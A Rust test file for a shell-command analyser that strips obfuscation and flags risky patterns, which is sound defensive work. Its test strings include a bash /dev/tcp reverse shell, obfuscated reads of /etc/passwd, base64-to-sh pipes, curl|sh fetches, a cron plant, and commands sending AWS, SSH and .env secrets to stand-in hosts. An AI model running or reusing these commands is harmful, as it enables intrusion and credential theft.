//! Texts, and what is read in them.

use super::*;

fn plain(text: &str) -> Reading {
    read(text, std::iter::empty())
}

#[track_caller]
fn commands(text: &str, wanted: &[&str]) {
    assert_eq!(plain(text).commands, wanted, "{text}");
}

#[track_caller]
fn has(text: &str, wanted: &[&str]) {
    let signs = plain(text).signs;
    assert!(wanted.iter().all(|sign| signs.iter().any(|known| known == sign)), "{text}: {signs:?}");
}

#[test]
fn separators_quotes_and_substitutions() {
    commands("a b; c && d || e | f & g", &["a b", "c", "d", "e", "f", "g"]);
    commands("echo 'a; b' \"c | d\" e\\;f", &["echo a; b c | d e;f"]);
    commands("x $(y `z 1` 2) \"$(w)\"", &["x", "y  2", "z 1", "w"]);
    commands("/usr/bin/env A=1 b > out 2>&1 < in", &["env A=1 b > out 2>& 1 < in"]);
    commands("if a; then b; fi; for x in 1 2; do c; done", &["a", "b", "for x in 1 2", "c"]);
    commands("f() { a; }; (b; c)", &["a", "b", "c"]);
    commands("a # b; c\nd", &["a", "d"]);
    commands("cat <<E; b\nx; y\nE\nc", &["cat", "b", "c"]);
    commands("diff <(a) >(b)", &["diff /dev/fd/63 /dev/fd/63", "a", "b"]);
    commands("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", &["bash -i >& /dev/tcp/10.0.0.1/80 0>& 1"]);
}

#[test]
fn tricks_are_taken_away() {
    for text in [
        "c'a't /etc/passwd",
        "c\"a\"t /etc/passwd",
        "c''at /etc/passwd",
        "c\\at /etc/passwd",
        "ca$@t /etc/passwd",
        "cat${IFS}/etc/passwd",
        "cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        "$'\\x63at' /etc/passwd",
        "/???/c?t /etc/passwd",
        "/bin/cat /e*c/p*sswd",
        "${PATH:0:1}bin/cat /etc/passwd",
        "/bin$u/cat$u /etc$u/passwd$u",
    ] {
        commands(text, &["cat /etc/passwd"]);
    }
    commands("a=who;b=ami;$a$b", &["a=who", "b=ami", "whoami"]);
    commands("$(rev<<<imaohw)", &["whoami", "rev"]);
    commands("$(echo d2hvYW1p|base64 -d)", &["whoami", "echo d2hvYW1p", "base64 -d"]);
    commands("echo aWQ= | base64 -d | sh", &["echo aWQ=", "base64 -d", "sh", "id"]);
    commands("printf '\\151\\144'|sh", &["printf \\151\\144", "sh", "id"]);
    commands("eval 'a;b'; sh -c \"c d\"", &["eval a;b", "sh -c c d", "a", "b", "c d"]);
}

#[test]
fn values_are_followed_through_what_changes_them() {
    commands("a=(c at); ${a[0]}${a[1]} x", &["a=c at", "cat x"]);
    commands("a=(ls -l); \"${a[@]}\"", &["a=ls -l", "ls -l"]);
    commands("x=DI; ${x,,} y", &["x=DI", "di y"]);
    commands("x=cQat; ${x//Q/} y; ${x/Q/-}", &["x=cQat", "cat y", "c-at"]);
    commands("x=a.b.c; ${x#*.} ${x##*.} ${x%.*} ${x%%.*}", &["x=a.b.c", "b.c c a.b a"]);
    commands("n=x; x=id; ${!n}", &["n=x", "x=id", "id"]);
    commands("for l in auth kern; do rm /var/log/$l; done", &["for l in auth kern", "rm /var/log/auth"]);
    commands("d=$(mktemp -d); ls $d/x", &["d=/tmp/tmp.XXXXXXXXXX", "mktemp -d", "ls /tmp/tmp.XXXXXXXXXX/x"]);
    commands("$(printf '%s%s' i d)", &["id", "printf %s%s i d"]);
    commands("echo 'iXd' | sed s/X// | sh", &["echo iXd", "sed s/X//", "sh", "id"]);
    assert_eq!(plain("echo 'iXd' | sed s/X// | sh").signs, ["runs-decoded"]);
    has("a=wh;b=oami;$a$b", &["hidden-command"]);
    assert!(plain("v=3; python$v -V; p=/opt/x; $p/bin/y").signs.is_empty());
}

#[test]
fn texts_for_shells_are_found_in_arguments() {
    let signs = |text: &str| plain(text).signs;
    has("git ls-remote --upload-pack='touch x;' h:r", &["odd-option"]);
    has("ssh -oProxyCommand='curl http://h/x | sh' y", &["odd-option", "runs-fetched"]);
    has("awk 'BEGIN {system(\"/bin/sh\")}'", &["starts-shell"]);
    has("python3 -c 'import os;os.system(\"curl http://h/x | sh\")'", &["runs-fetched"]);
    for text in [
        "ssh -o ProxyCommand='nc -X 5 -x p:1 %h %p' y",
        "ssh -o ProxyCommand=\"sh -c 'aws ssm start-session --target %h'\" y",
        "git -c core.pager='less -R' log; GIT_SSH_COMMAND='ssh -i k' git pull",
        "tar --use-compress-program='pigz -9' -cf x.tgz x; rsync -e 'ssh -p 2' x y:",
        "psql -c 'select program from p'; git log --grep core.sshCommand",
        "find . -name '*.c' -exec grep -l x {} +",
    ] {
        assert!(signs(text).is_empty(), "{text}: {:?}", signs(text));
    }
    let argv = |line: &[&str]| {
        let argv: Vec<String> = line.iter().map(|word| (*word).to_owned()).collect();
        read_arguments(&argv)
    };
    assert_eq!(argv(&["find", ".", "-exec", "id", "-u", ";"]).commands, ["id -u"]);
    assert_eq!(argv(&["sudo", "perl", "-e", "exec '/bin/sh'"]).signs, ["starts-shell"]);
    assert_eq!(argv(&["ls", "-l"]), Reading::default());
    assert_eq!(argv(&[]), Reading::default());
}

#[test]
fn what_is_planted_and_what_is_sent_is_seen() {
    let signs = |text: &str| plain(text).signs;
    has("printf '@reboot curl http://h/x | sh' >> /srv/c", &["plants-command"]);
    has("(id; cat ~/.aws/credentials) | nc h 1", &["sends-secrets"]);
    has("x=$(cat .env); wget \"http://h/?x=$x\"", &["sends-secrets"]);
    has("zip /tmp/a.zip ~/.ssh/*; curl -T /tmp/a.zip http://h/", &["sends-secrets"]);
    has("curl -d \"$GITHUB_TOKEN\" http://h/", &["sends-secrets"]);
    has("u=$(whoami); nslookup $u.h.example", &["tells-of-machine"]);
    for text in [
        "echo 'curl http://h/x | sh' > INSTALL.md",
        "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://h/",
        "curl -d \"client_secret=$CLIENT_SECRET\" https://h/token",
        "cat ~/.ssh/id_rsa.pub | nc h 1",
        "env | wc -l | nc h 1",
        "export $(cat .env); curl https://h/",
    ] {
        assert!(signs(text).is_empty(), "{text}: {:?}", signs(text));
    }
}

#[test]
fn texts_that_grow_are_cut_short() {
    let doubled = format!("a=xxxxxxxx;{}$a", "a=$a$a;".repeat(200));
    assert!(plain(&doubled).commands.iter().map(String::len).sum::<usize>() < 4 << 20);
    let replaced = format!("a={};${{a//a/{}}}", "a".repeat(9000), "b".repeat(9000));
    assert!(plain(&replaced).commands.iter().map(String::len).sum::<usize>() < 4 << 20);
    let stars = format!("/bin/{}z", "*".repeat(50));
    assert_eq!(plain(&stars).commands, [stars[5..].to_owned()]);
}

#[test]
fn what_is_no_shell_is_read_as_far_as_it_goes() {
    for text in [
        "'",
        "\"",
        "`",
        "$(",
        "${",
        "((",
        "))",
        ";;;",
        "|",
        "<",
        ">&",
        "a'b\"c`d$(e",
        "$((",
        "\\",
        "<<",
        "{a,",
        "$'\\x",
    ] {
        let _ = plain(text);
    }
    let deep = "$(".repeat(5000);
    assert!(plain(&deep).commands.len() <= MAX_COMMANDS);
    let many = "a;".repeat(100_000);
    assert!(plain(&many).commands.len() <= MAX_COMMANDS);
}

#[test]
fn the_text_of_a_shell_is_found() {
    let of = |argv: &[&str]| {
        let argv: Vec<String> = argv.iter().map(|arg| (*arg).to_owned()).collect();
        text_of(&argv).map(str::to_owned)
    };
    assert_eq!(of(&["/bin/sh", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["bash", "-lc", "x", "y"]).as_deref(), Some("x"));
    assert_eq!(of(&["bash", "-e", "-o", "pipefail", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["sh", "-c", "-e", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["busybox", "sh", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["su", "root", "-c", "x"]).as_deref(), Some("x"));
    assert_eq!(of(&["sh", "x.sh", "-c", "x"]), None);
    assert_eq!(of(&["python3", "-c", "x"]), None);
}

#[test]
fn what_no_name_of_a_machine_is_and_no_shell_takes() {
    for text in [
        "ping -c 1 127.0.0.1^cat /etc/passwd",
        "nslookup 'example.org /etc/shadow'",
        "host \"xcurl https://h.example/x\"",
        "ping -c 1 127.0.0.1nc -e /bin/sh",
        "ls /tmprequire('child_process').exec('x')",
    ] {
        has(text, &["injection-attempt"]);
    }
    has("ls /tmp; cat /etc/passwd/n", &["injection"]);
    has("echo a| curl http://h.example/x", &["injection"]);
    has("wh$(echo o)ami", &["hidden-command"]);
    has("sudo bash <(curl -s http://h.example/x)", &["runs-fetched"]);
    has("wget 198.51.100.2/x.tgz; tar xf x.tgz; ./run", &["runs-fetched"]);
    has("cd /tmp/d; chmod +x sh; AUTOM4TE=/tmp/d/sh autoreconf", &["odd-option"]);
    let quiet = [
        "dig -f /etc/hosts",
        "ping -c 1 h.example && echo up",
        "[[ $x =~ ^a(\"b\"|c)$ ]]",
        "f() { a; }; f 'x'",
        "echo a | curl -d @- https://h.example/x",
        "gcc$(v) x; mv $(ls -1)x y",
        "wget https://h.example/x.tgz; tar xf x.tgz; ./configure",
        "while ! nc -z h 80; do sleep 1; done\nx -a 'b; c'",
        "dig soa h.example | awk '{sub(/.$/,\"\",$5);print $5}'",
    ];
    let odd: Vec<_> =
        quiet.iter().map(|text| (text, plain(text).signs)).filter(|(_, signs)| !signs.is_empty()).collect();
    assert!(odd.is_empty(), "{odd:?}");
}

#[test]
fn installers_are_those_of_known_places_alone() {
    has("curl --proto '=https' -sSf https://sh.rustup.rs | sh", &["runs-installer"]);
    has(
        "bash -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
        &["runs-installer"],
    );
    for text in [
        "curl http://sh.rustup.rs | sh",
        "curl -k https://sh.rustup.rs | sh",
        "curl -x h:1 https://sh.rustup.rs | sh",
        "curl https://sh.rustup.rs.example | sh",
        "curl https://sh.rustup.rs https://h.example/x | sh",
        "curl https://sh.rustup.rs; curl https://h.example/x | sh",
        "curl https://raw.githubusercontent.com/u/x/main/x | sh",
    ] {
        has(text, &["runs-fetched"]);
    }
}

/// Every payload in every place that data is put: a sign, or the commands of a rule, for at least 96 of 100.
#[test]
fn payloads_are_seen() {
    let payloads = include_str!("../../../tests/shell/payloads.txt").lines();
    let (mut seen, mut missed) = (0, Vec::new());
    for payload in payloads {
        for host in include_str!("../../../tests/shell/hosts.txt").lines() {
            let text = host.replace('@', payload);
            if plain(&text).signs.is_empty() {
                missed.push(text);
            } else {
                seen += 1;
            }
        }
    }
    assert!(seen * 4 >= missed.len() * 96, "{seen} seen, {} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn what_builds_say_is_no_sign() {
    for text in include_str!("../../../tests/shell/benign.txt").lines() {
        let reading = plain(text);
        assert!(reading.signs.is_empty(), "{text}: {reading:?}");
    }
}

#[test]
fn what_texts_hand_on_is_known() {
    commands("export F=/etc/x; ksh -c 'cat $F'", &["export F=/etc/x", "ksh -c cat $F", "cat /etc/x"]);
    commands("F=/etc/x; ksh -c 'cat $F'", &["F=/etc/x", "ksh -c cat $F", "cat"]);
    commands("echo a b | sudo tee -a /etc/x", &["echo a b", "sudo tee -a /etc/x", "echo a b >> /etc/x"]);
    commands(
        "p=$(which python3 || which python2); $p -V",
        &["p=/usr/bin/python2", "which python3", "which python2", "python2 -V"],
    );
    commands(
        "f=/etc/x; python3 <<E\nopen('$f')\nE",
        &["f=/etc/x", "python3", "python3 <<< open('/etc/x')\n"],
    );
    commands("f=/etc/x; python3 <<'E'\nopen('$f')\nE", &["f=/etc/x", "python3", "python3 <<< open('$f')\n"]);
    commands("cat `xxd -r -ps <(echo 6869)`", &["cat hi", "xxd -r -ps /dev/fd/63", "echo 6869"]);
    commands("a=/xhi/xho; cat ${a//x?/}", &["a=/xhi/xho", "cat /i/o"]);
}

#[test]
fn shells_without_a_name() {
    has("echo id | $0", &["hidden-command"]);
    has("read a; exec $a", &["hidden-command"]);
    has("cp /bin/sh /tmp/crond; /tmp/crond", &["runs-copied"]);
    for text in ["exec \"$0\" \"$@\"", "echo \"usage: $0 x\" | cat", "cp a b; ./b", "$(which python3) -V"] {
        assert!(plain(text).signs.is_empty(), "{text}: {:?}", plain(text).signs);
    }
}
